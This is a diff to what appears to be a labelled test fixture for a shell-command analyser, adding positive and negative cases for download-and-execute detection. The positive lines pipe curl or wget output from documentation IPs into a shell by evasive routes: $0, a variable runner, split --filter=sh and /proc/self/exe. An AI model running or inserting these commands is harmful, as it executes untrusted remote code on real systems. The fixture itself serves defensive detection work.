@@ -176,3 +176,15 @@ man -P "sh -c \"curl -s http://203.0.113.5/p | sh\"" ls
 #@ neg rsync over ssh on another port, tar through zstd
 rsync -e "ssh -p 2222" -a src/ backup.example.com:dst/
 tar --use-compress-program="zstd -19" -cf x.tar.zst dir
+#@ pos a download piped into the shell's $0
+curl -fsSL http://203.0.113.9/r.sh | "$0"
+#@ pos a download piped into a runner the analysis cannot name, with -s
+wget -qO- http://203.0.113.9/r.sh | $runner -s
+#@ neg a download piped into a filter named by a variable, with its own program
+curl -fsSL https://api.example.com/items | "$JQ" '.items[]'
+#@ pos a download handed to a shell by split --filter
+curl -fsSL http://203.0.113.9/s.txt | split -n r/1 --filter=sh
+#@ neg a download split into compressed pieces
+curl -fsSL https://example.com/big.csv | split -l 1000 --filter='gzip > "$FILE.gz"' - part-
+#@ pos the shell run as /proc/self/exe on a download
+/proc/self/exe -c "$(curl -fsSL http://203.0.113.9/r.sh)"
